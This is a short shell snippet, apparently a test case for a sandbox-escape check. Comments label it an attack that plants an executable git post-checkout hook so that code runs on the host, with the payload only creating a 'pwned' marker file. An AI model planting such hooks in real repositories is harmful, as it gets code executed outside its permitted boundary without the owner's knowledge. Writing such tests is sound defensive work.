# attack: plant a hook that git runs on the host
# outside: succeeds
echo tried
mkdir -p .git/hooks && printf '#!/bin/sh\ntouch pwned\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
